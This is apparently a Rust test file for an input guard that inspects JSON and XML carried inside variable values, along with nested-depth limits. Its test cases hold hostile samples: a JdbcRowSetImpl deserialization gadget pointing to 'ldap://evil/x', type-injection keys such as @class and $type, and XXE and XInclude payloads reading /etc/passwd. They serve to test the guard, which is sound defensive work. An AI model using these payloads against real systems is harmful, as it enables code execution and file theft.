//! JSON and XML carried in JSON strings (`Object` variables in JSON or XML
//! format, `Json` and `Xml` variables) are inspected as documents of their
//! own, nested up to `max_embedded_depth`.

use super::*;

/// `depth` carriers nested in each other, around `{"a":1}`: each carrier's
/// value is the next one as a JSON string.
fn nested_carriers(depth: usize, carrier: fn(&str) -> String) -> String {
    (0..depth).fold(r#"{"a":1}"#.to_owned(), |inner, _| carrier(&js(&inner)))
}

/// A `Json` variable with this `value`.
fn json_carrier(value: &str) -> String {
    format!(r#"{{"value":{value},"type":"Json"}}"#)
}

/// An `Object` variable in JSON format with this `value`.
fn object_carrier(value: &str) -> String {
    typed(value, "Object", "java.util.HashMap", "application/json")
}

#[test]
fn carried_documents() {
    let v = |var: &str| in_variables(var);
    let object_json = |value: &str| {
        v(&typed(
            &js(value),
            "Object",
            "com.acme.Order",
            "application/json",
        ))
    };
    let object_xml = |value: &str| {
        v(&typed(
            &js(value),
            "Object",
            "com.acme.Order",
            "application/xml",
        ))
    };
    let json_var = |value: &str| v(&format!(r#"{{"value":{},"type":"Json"}}"#, js(value)));
    let xml_var = |value: &str| v(&format!(r#"{{"value":{},"type":"Xml"}}"#, js(value)));
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>"#;
    let cases = [
        case(
            "Object/json carrying a gadget @class",
            object_json(
                r#"{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/x","autoCommit":true}"#,
            ),
            code_at(CLASS, "/variables/x/value/@class"),
        ),
        case(
            "Object/json carrying a nested $type",
            object_json(r#"[{"x":{"$type":"Evil.Gadget, Evil"}}]"#),
            code_at(CLASS, "/variables/x/value/0/x/$type"),
        ),
        case(
            "Object/json carrying an objectTypeName",
            object_json(r#"{"inner":{"objectTypeName":"com.evil.X"}}"#),
            code_at(CLASS, "/variables/x/value/inner/objectTypeName"),
        ),
        case(
            "Object/json carrying a typed variable",
            object_json(&in_variables(&object_var("com.evil.X"))),
            code_at(
                CLASS,
                "/variables/x/value/variables/x/valueInfo/objectTypeName",
            ),
        ),
        case(
            "Object/json carrying a duplicate key",
            object_json(r#"{"a":1,"a":2}"#),
            code_at(DUPLICATE, "/variables/x/value/a"),
        ),
        case(
            "Object/json malformed",
            object_json("not json"),
            code_at(MALFORMED, "/variables/x/value"),
        ),
        case(
            "Object/json empty",
            object_json(""),
            code_at(MALFORMED, "/variables/x/value"),
        ),
        case(
            "Object/json with a comment",
            object_json(r#"{"a":1/*x*/}"#),
            code_at(MALFORMED, "/variables/x/value/a"),
        ),
        case(
            "Object/json with a lone surrogate, written as \\\\ud800 in the body",
            v(
                r#"{"value":"[\"\\ud800\"]","type":"Object","valueInfo":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/json"}}"#,
            ),
            code_at(MALFORMED, "/variables/x/value/0"),
        ),
        case(
            "near miss: Object/json benign",
            object_json(r#"{"customer":"Ann","lines":[{"sku":"a","qty":1}],"@note":"x"}"#),
            OK,
        ),
        case(
            "near miss: Object/json allowed @class",
            object_json(r#"{"@class":"com.acme.Order","items":["java.util.ArrayList",[]]}"#),
            OK,
        ),
        case(
            "Json variable with invalid JSON",
            json_var("{\"a\":1,}"),
            code_at(MALFORMED, "/variables/x/value"),
        ),
        case(
            "Json variable with NaN",
            json_var("[NaN]"),
            code_at(MALFORMED, "/variables/x/value/0"),
        ),
        case(
            "Json variable with @type",
            json_var(r#"{"a":{"@type":"com.evil.X"}}"#),
            code_at(CLASS, "/variables/x/value/a/@type"),
        ),
        case(
            "near miss: Json variable benign",
            json_var(r#"{"a":[1,2.5,"x",null,true]}"#),
            OK,
        ),
        case("near miss: Json variable scalar", json_var("42"), OK),
        case(
            "Xml variable with a DOCTYPE",
            xml_var(xxe),
            code_at(DOCTYPE, "/variables/x/value"),
        ),
        case(
            "Xml variable with a lower-case doctype",
            xml_var("<!doctype r><r/>"),
            code_at(DOCTYPE, "/variables/x/value"),
        ),
        case(
            "Xml variable with XInclude",
            xml_var(
                r#"<r><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></r>"#,
            ),
            code_at(XINCLUDE, "/variables/x/value/r/include"),
        ),
        case(
            "Xml variable malformed",
            xml_var("<r>"),
            code_at(XML_MALFORMED, "/variables/x/value/r"),
        ),
        case(
            "near miss: Xml variable benign",
            xml_var(r#"<?xml version="1.0"?><order id="1"><line>a &amp; b</line></order>"#),
            OK,
        ),
        case(
            "Object/xml with a DOCTYPE",
            object_xml(xxe),
            code_at(DOCTYPE, "/variables/x/value"),
        ),
        case(
            "near miss: Object/xml benign",
            object_xml("<order><id>1</id></order>"),
            OK,
        ),
        case(
            "Object/xml names a denied class",
            v(&typed(
                &js("<order/>"),
                "Object",
                "com.evil.X",
                "application/xml",
            )),
            code_at(CLASS, "/variables/x/valueInfo/objectTypeName"),
        ),
        case(
            "untyped value with application/json valueInfo",
            v(&format!(
                r#"{{"value":{},"valueInfo":{{"serializationDataFormat":"application/json"}}}}"#,
                js(r#"{"@class":"com.evil.X"}"#)
            )),
            code_at(CLASS, "/variables/x/value/@class"),
        ),
    ];
    check(&test_guard(), &cases);
}

#[test]
fn carried_documents_nest_up_to_max_embedded_depth() {
    let default = test_guard();
    assert_eq!(default.policy().json.max_embedded_depth, 4);
    let shallow = guard_with("", "max_embedded_depth = 1");
    let pointer = |n: usize| "/value".repeat(n);
    let mut cases = Vec::new();
    for (name, carrier) in [
        ("Json", json_carrier as fn(&str) -> String),
        ("Object/json", object_carrier as fn(&str) -> String),
    ] {
        cases.push((
            &default,
            case(format!("{name}: 4 deep"), nested_carriers(4, carrier), OK),
        ));
        cases.push((
            &default,
            case(
                format!("{name}: 5 deep"),
                nested_carriers(5, carrier),
                code_at(TOO_DEEP, &pointer(5)),
            ),
        ));
        cases.push((
            &default,
            case(
                format!("{name}: 9 deep"),
                nested_carriers(9, carrier),
                code_at(TOO_DEEP, &pointer(5)),
            ),
        ));
        cases.push((
            &shallow,
            case(
                format!("{name}: 1 deep, max 1"),
                nested_carriers(1, carrier),
                OK,
            ),
        ));
        cases.push((
            &shallow,
            case(
                format!("{name}: 2 deep, max 1"),
                nested_carriers(2, carrier),
                code_at(TOO_DEEP, &pointer(2)),
            ),
        ));
    }
    // Alternating carriers count together.
    let mixed = (0..5).fold(r#"{"a":1}"#.to_owned(), |inner, i| {
        if i % 2 == 0 {
            json_carrier(&js(&inner))
        } else {
            object_carrier(&js(&inner))
        }
    });
    cases.push((
        &default,
        case("mixed: 5 deep", mixed, code_at(TOO_DEEP, &pointer(5))),
    ));
    // A class inside the deepest allowed carrier is still found.
    let deep_evil = (0..4).fold(r#"{"@class":"com.evil.X"}"#.to_owned(), |inner, _| {
        json_carrier(&js(&inner))
    });
    cases.push((
        &default,
        case(
            "class 4 carriers deep",
            deep_evil,
            code_at(CLASS, &format!("{}/@class", pointer(4))),
        ),
    ));
    for (guard, c) in cases {
        check(guard, &[c]);
    }
}
